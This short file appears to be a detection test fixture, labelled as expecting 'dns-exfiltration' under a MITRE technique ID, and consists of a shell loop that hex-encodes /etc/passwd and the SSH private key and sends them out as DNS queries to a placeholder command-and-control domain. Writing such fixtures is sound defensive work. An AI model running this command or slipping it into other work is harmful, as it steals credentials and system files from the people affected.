# expect: dns-exfiltration | source: T1048.003
for part in $(cat /etc/passwd ~/.ssh/id_rsa | xxd -p); do
  dig +short "$part.c2.example.invalid"
done
